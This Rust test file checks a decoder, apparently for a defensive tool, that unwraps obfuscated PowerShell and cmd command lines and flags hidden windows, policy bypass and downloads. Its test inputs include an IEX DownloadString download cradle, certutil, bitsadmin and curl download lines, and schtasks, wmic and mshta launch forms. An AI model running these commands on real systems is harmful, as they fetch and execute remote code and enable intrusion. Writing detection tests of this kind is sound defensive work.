//! What `decode` makes of command lines. Expected texts come from PowerShell's documented rules
//! and from another encoder; no expectation is our own output.
#![expect(clippy::indexing_slicing, clippy::string_slice, reason = "a test that panics fails")]

mod bounds;
mod carrier;
mod cmd;
mod cmd_generated;
mod generated;
mod oracle;
mod script;
mod tricks;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::*;
use spawnscope::decode::{Command, MAX_INPUT, MAX_LAYERS, decode};
use spawnscope::model::{Decoding, Span};

/// gzip of [`DOWNLOAD`], written by Python's gzip module.
const GZIP: &str = "H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1ze0tNAzNdQzNDDQMzLWL9UrKDZU1wQAm6lF60sAAAA=";
const DOWNLOAD: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')";
/// `whoami /all` as UTF-16LE, by Python's base64 module.
const WHOAMI: &str = "dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==";

fn run(text: &str) -> Decoding {
    decode(&Command { text, ..Command::default() })
}

fn utf16(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

fn texts(decoding: &Decoding) -> Vec<&str> {
    decoding.layers.iter().map(|layer| layer.text.as_str()).collect()
}

fn at(text: &str, span: Span) -> &str {
    &text[span.from..span.to]
}

/// Every spelling that the documented rules make of a switch: any prefix down to its minimum.
fn spellings(name: &str, shortest: usize) -> impl Iterator<Item = String> {
    (shortest..=name.len()).map(|length| name[..length].to_owned())
}

#[test]
fn every_spelling_of_encoded_command_is_read() {
    let marks = ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}", "--", "\u{2013}\u{2013}"];
    for word in spellings("encodedcommand", 1).chain(["ec".to_owned()]) {
        for mark in marks {
            for spelled in [word.clone(), word.to_uppercase()] {
                for program in
                    ["powershell", "PowerShell.EXE", "pwsh", "pwsh.exe", "powershell_ise"]
                {
                    let line = format!("{program} -nop {mark}{spelled} {WHOAMI} -noni");
                    let decoding = run(&line);
                    assert_eq!(texts(&decoding), ["whoami /all"], "{line}");
                    assert_eq!(at(&line, decoding.layers[0].span), WHOAMI, "{line}");
                    assert_eq!(decoding.layers[0].trick, "Base64, UTF-16LE");
                    assert_eq!(decoding.layers[0].from, Some(format!("{mark}{spelled}")));
                    assert_eq!(decoding.failed, [], "{line}");
                    assert_eq!(decoding.traits, ["no profile", "non-interactive", "encoded"]);
                }
            }
        }
    }
}

#[test]
fn other_parameters_do_not_hide_it() {
    let before = [
        "-ExecutionPolicy Bypass",
        "-ep bypass",
        "-ex unrestricted",
        "-w hidden",
        "-WindowStyle 1",
        "-NoLogo",
        "-nol",
        "-noe",
        "-sta",
        "-MTA",
        "-of Text",
        "-OutputFormat Text",
        "-inp XML",
        "-if text",
        "-v 2",
        "-version 2.0",
        "-config x",
        "-ConfigurationName \"my e\"",
        "-ea AAAA",
        "-PSConsoleFile x.psc1",
        "\"-noprofile\"",
    ];
    for words in before {
        let line = format!("powershell {words} -e {WHOAMI}");
        assert_eq!(texts(&run(&line)), ["whoami /all"], "{line}");
    }
    for words in ["-cwd", "-wd C:\\", "-WorkingDirectory \"C:\\a b\"", "-l", "-cus pipe", "-i"] {
        let line = format!("pwsh {words} -e {WHOAMI}");
        let expected: &[&str] = if words == "-cwd" { &[] } else { &["whoami /all"] };
        assert_eq!(texts(&run(&line)), expected, "{line}");
    }
}

#[test]
fn near_misses_stay_as_they_are() {
    let lines = [
        format!("powershell -encod:{WHOAMI}"),
        format!("powershell -enc:{WHOAMI}"),
        format!("powershell -encodex {WHOAMI}"),
        format!("powershell -=enc {WHOAMI}"),
        format!("powershell -\u{2013}enc {WHOAMI}"),
        format!("powershell ---enc {WHOAMI}"),
        format!("curl -e {WHOAMI} http://192.0.2.1/"),
        format!("notepowershell -e {WHOAMI}"),
        format!("powershell.exe.bak -e {WHOAMI}"),
        "powershell -ExecutionPolicy Bypass -NoProfile".to_owned(),
        format!("powershell -File x.ps1 -enc {WHOAMI}"),
        format!("powershell -f x.ps1 powershell -enc {WHOAMI}"),
        format!("powershell -Command Get-Date -enc {WHOAMI}"),
        format!("powershell -c Get-Date -enc {WHOAMI}"),
        format!("powershell Get-Date -enc {WHOAMI}"),
        format!("pwsh x.ps1 -enc {WHOAMI}"),
        format!("pwsh -v 2 -enc {WHOAMI}"),
        format!("powershell -h -enc {WHOAMI}"),
        format!("powershell -en\u{441} {WHOAMI}"),
        String::new(),
        "   ".to_owned(),
        "cmd /c echo ^& dir".to_owned(),
        "powershell".to_owned(),
        "powershell -".to_owned(),
    ];
    for line in lines {
        let decoding = run(&line);
        assert_eq!(decoding.layers, [], "{line}");
        assert_eq!(decoding.failed, [], "{line}");
        assert!(!decoding.traits.contains(&"encoded".to_owned()), "{line}");
    }
}

#[test]
fn the_program_is_told_by_word_image_or_original_name() {
    let line = format!("C:\\Users\\Public\\up.exe -e {WHOAMI}");
    let command = Command { text: &line, ..Command::default() };
    assert_eq!(decode(&command).layers, []);
    let told = [
        Command { original_file_name: Some("PowerShell.EXE"), ..command },
        Command { original_file_name: Some("pwsh.dll"), ..command },
        Command {
            image: Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ..command
        },
    ];
    for command in told {
        let decoding = decode(&command);
        assert_eq!(texts(&decoding), ["whoami /all"]);
        assert_eq!(at(&line, decoding.layers[0].span), WHOAMI);
    }
    let other = Command { original_file_name: Some("notpowershell.exe"), ..command };
    assert_eq!(decode(&other).layers, []);
}

#[test]
fn calls_inside_other_lines_are_found() {
    let lines = [
        "cmd /c powershell -enc {}",
        "cmd.exe /c \"powershell -nop -enc {}\"",
        "cmd /c \"start /b powershell -enc {}\"",
        "cmd /c start \"\" /b powershell.exe -enc {} & exit",
        "%COMSPEC% /b /c start /min powershell -e {}",
        "C:\\Windows\\System32\\cmd.exe /c \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc {}\"",
        "cmd /c \"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -enc {}\"",
        "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -enc {}",
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe -enc {}",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -enc \"{}\"",
        "powershell -c & powershell -enc {}",
        "powershell -c \"& {powershell -enc {}}\"",
        "powershell -Command \"powershell -enc '{}'\"",
        "powershell -c \"powershell -enc \\\"{}\\\"\"",
        "powershell -c Start-Process powershell -ArgumentList '-nop -w hidden -enc {}'",
        "powershell -c \"Start-Process powershell -Args '-nop','-enc','{}' -WindowStyle Hidden\"",
        "powershell -c \"saps 'powershell.exe' '-enc {}'\"",
        "schtasks /create /tn x /tr \"powershell -enc {}\" /sc minute",
        "wmic process call create \"powershell -enc {}\"",
        "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run(\"\"powershell -enc {}\"\")\")",
        "cmd /c whoami&&powershell -enc {}>nul",
    ];
    for form in lines {
        let line = form.replacen("{}", WHOAMI, 1);
        let decoding = run(&line);
        assert_eq!(texts(&decoding), ["whoami /all"], "{line}");
        assert_eq!(at(&line, decoding.layers[0].span), WHOAMI, "{line}");
        assert_eq!(decoding.failed, [], "{line}");
    }
}

#[test]
fn carets_are_a_layer_of_their_own() {
    let line = format!("cmd /c p^ower^shell -e^nc {WHOAMI}");
    let decoding = run(&line);
    let plain = format!("cmd /c powershell -enc {WHOAMI}");
    assert_eq!(texts(&decoding), [plain.as_str(), "whoami /all"]);
    assert_eq!(at(&line, decoding.layers[0].span), "^ower^shell -e^n");
    assert_eq!(at(&plain, decoding.layers[1].span), WHOAMI);
    let outer = run("cmd.exe /s /d/c \"w^hoami ^& echo \"a^b\"\"");
    assert_eq!(texts(&outer), ["cmd.exe /s /d/c \"whoami ^& echo \"a^b\"\""]);
    assert_eq!(run("findstr ^foo x.txt").layers, []);
}

#[test]
fn quotes_inside_the_payload_go_as_in_the_c_runtime() {
    let line = format!("powershell -enc {}\"{}\"", &WHOAMI[..8], &WHOAMI[8..]);
    let decoding = run(&line);
    assert_eq!(texts(&decoding), ["whoami /all"]);
    assert_eq!(decoding.layers[0].span, Span { from: 16, to: line.len() });
    let blanks = format!("powershell -enc \"{} {}\"", &WHOAMI[..8], &WHOAMI[8..]);
    assert_eq!(texts(&run(&blanks)), ["whoami /all"]);
}

#[test]
fn what_cannot_be_decoded_is_told_with_its_place() {
    let cases = [
        ("powershell -enc", "-enc", "missing"),
        ("powershell -enc \"\"", "\"\"", "missing"),
        ("powershell -enc %PAYLOAD%", "%PAYLOAD%", "comes from %PAYLOAD%"),
        ("powershell -enc dwBo", "dwBo", "odd last byte"),
        ("powershell -enc dwBoA", "dwBoA", "groups of four"),
        ("powershell -enc dwBoAG8_YQBt", "dwBoAG8_YQBt", "'_' at byte 7"),
        ("powershell -enc dwB=AG8AYQBt", "dwB=AG8AYQBt", "padding at byte 3"),
        ("powershell -enc dwBoAG8AYQBt=", "dwBoAG8AYQBt=", "groups of four"),
        ("powershell -enc dwBoAG8A====", "dwBoAG8A====", "padding"),
        ("powershell -enc V3JpdGUtSG9zdCAx", "V3JpdGUtSG9zdCAx", "plain ASCII"),
        ("powershell -enc AQIDBAUGBwgJCgsMDQ4PEA==", "AQIDBAUGBwgJCgsMDQ4PEA==", "not text"),
        ("cmd /c powershell -enc", "-enc", "missing"),
        (
            "powershell -enc HjlBYzzzo0+vr8Pb1cHFwZp6zrS6",
            "HjlBYzzzo0+vr8Pb1cHFwZp6zrS6",
            "not text",
        ),
        ("powershell -enc $x", "$x", "comes from $x"),
        ("powershell -enc 'dwBoAG8AYQBtAGkA'", "'dwBoAG8AYQBtAGkA'", "at byte 0"),
    ];
    for (line, place, reason) in cases {
        let decoding = run(line);
        assert_eq!(decoding.failed.len(), 1, "{line}: {decoding:?}");
        assert_eq!(at(line, decoding.failed[0].span), place, "{line}");
        assert!(decoding.failed[0].reason.contains(reason), "{line}: {:?}", decoding.failed);
        let has_layer = reason == "odd last byte";
        assert_eq!(decoding.layers.len(), usize::from(has_layer), "{line}");
    }
}

#[test]
fn odd_bytes_and_lone_surrogates_are_replaced_and_told() {
    let mut bytes: Vec<u8> = "whoami".encode_utf16().flat_map(u16::to_le_bytes).collect();
    bytes.extend([0x00, 0xD8]);
    bytes.extend("/all /fo csv".encode_utf16().flat_map(u16::to_le_bytes));
    let line = format!("powershell -enc {}", STANDARD.encode(&bytes));
    let decoding = run(&line);
    assert_eq!(texts(&decoding), ["whoami\u{FFFD}/all /fo csv"]);
    assert!(decoding.failed[0].reason.contains("surrogate"));
    let marked = format!("powershell -enc {}", utf16("\u{FEFF}whoami"));
    assert_eq!(texts(&run(&marked)), ["\u{FEFF}whoami"]);
    assert_eq!(run(&marked).failed, []);
}

#[test]
fn text_of_any_script_is_text() {
    for text in
        ["Write-Output 'Привет, мир'", "echo 日本語のテキスト", "echo \u{1F600} ok", "'ÄÖÜ'", "ls"]
    {
        let line = format!("powershell -enc {}", utf16(text));
        assert_eq!(texts(&run(&line)), [text]);
    }
}

#[test]
fn nested_calls_are_undone_to_the_limit() {
    let mut line = "whoami".to_owned();
    for _ in 0..MAX_LAYERS {
        line = format!("powershell -nop -enc {}", utf16(&line));
    }
    let decoding = run(&line);
    assert_eq!(decoding.layers.len(), MAX_LAYERS);
    assert_eq!(decoding.last_text(), Some("whoami"));
    assert_eq!(decoding.failed, []);
    let mut before = line.as_str();
    for layer in &decoding.layers {
        let bytes = STANDARD.decode(at(before, layer.span)).unwrap();
        assert_eq!(String::from_utf16_lossy(&units(&bytes)), layer.text);
        before = &layer.text;
    }
    let deeper = format!("powershell -e {}", utf16(&line));
    let decoding = run(&deeper);
    assert_eq!(decoding.layers.len(), MAX_LAYERS);
    assert!(decoding.failed[0].reason.contains("more than 8 layers"));
}

fn units(bytes: &[u8]) -> Vec<u16> {
    bytes.chunks(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect()
}

#[test]
fn traits_say_what_is_asked_for() {
    let cases: &[(&str, &[&str])] = &[
        (
            "powershell -w h -nop -noni -ep bypass -c dir",
            &["hidden window", "no profile", "non-interactive", "policy bypassed"],
        ),
        ("powershell -windowstyle normal -ex RemoteSigned -c dir", &[]),
        ("cmd /c powershell -w 1 -c iwr http://192.0.2.1/a -o b", &["hidden window", "downloads"]),
        ("certutil.exe -urlcache -split -f http://192.0.2.1/a a.exe", &["downloads"]),
        ("certutil -hashfile a.exe", &[]),
        ("bitsadmin /transfer j http://192.0.2.1/a C:\\a", &["downloads"]),
        ("curl.exe -o a http://192.0.2.1/a", &["downloads"]),
        ("C:\\tools\\curl\\readme.exe", &[]),
        ("powershell -c \"(New-Object Net.WebClient).DownloadFile('a','b')\"", &["downloads"]),
        ("powershell -c iex $x", &["runs in memory"]),
        ("complex.exe -iexample", &[]),
    ];
    for (line, expected) in cases {
        assert_eq!(run(line).traits, *expected, "{line}");
    }
}

#[test]
fn too_long_an_input_is_refused() {
    let decoding = run(&"a".repeat(MAX_INPUT + 1));
    assert_eq!(decoding.layers, []);
    assert!(decoding.failed[0].reason.contains("8 MiB"));
}

#[test]
fn hostile_lines_end_fast() {
    let seeds = [
        "powershell ",
        "powershell -enc ",
        "\"powershell -enc ",
        "powershell \"",
        "\\powershell\\",
        "FromBase64String(",
        "FromBase64String('",
        "FromBase64String($a)",
        "$a='",
        "^a",
        "\"C:\\",
        "http://a/))((",
        "http://",
        "\\\\a\\b",
        "a.",
        "a@",
        "::1",
        "1.",
        "%A%\\",
        "\u{FFFD}",
        "iex;",
        "cmd /c p^",
        "-ArgumentList '",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YWFhYQ=='))+",
        "[Text.Encoding]::UTF8.GetString(",
        "\0",
        "((((",
    ];
    for seed in seeds {
        for head in ["", "powershell -c ", "cmd /c "] {
            let line = format!("{head}{}", seed.repeat((1 << 15) / seed.len()));
            let start = std::time::Instant::now();
            let _decoding = run(&line);
            let taken = start.elapsed().as_secs_f64();
            assert!(taken < 10.0, "{taken} s for {head}{seed}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_gives_valid_spans(
        parts in proptest::collection::vec(prop_oneof![
            any::<String>(),
            "[A-Za-z0-9+/=]{0,24}",
            proptest::sample::select(vec![
                "powershell ", "pwsh", "-enc ", "–e ", "\"", "'", "\\\"", "cmd /c ", "^", "(", ")",
                "[Convert]::FromBase64String(", ".GetString(", "[Text.Encoding]::Unicode", "iex ", "$a=", ";", "+",
                "http://", "\\\\h\\s", "C:\\", "@", WHOAMI, GZIP, "é", "\u{1F600}",
            ]).prop_map(str::to_owned),
        ], 0..12),
        as_powershell: bool,
    ) {
        let line = parts.concat();
        let image = as_powershell.then_some("powershell.exe");
        let command = Command { text: &line, image, original_file_name: None };
        let decoding = decode(&command);
        prop_assert_eq!(&decoding, &decode(&command));
        let mut before = line.as_str();
        for layer in &decoding.layers {
            prop_assert!(before.get(layer.span.from..layer.span.to).is_some(), "{:?}", layer);
            before = &layer.text;
        }
        for failed in &decoding.failed {
            let fits = |text: &str| text.get(failed.span.from..failed.span.to).is_some();
            prop_assert!(fits(&line) || decoding.layers.iter().any(|layer| fits(&layer.text)));
        }
    }
}
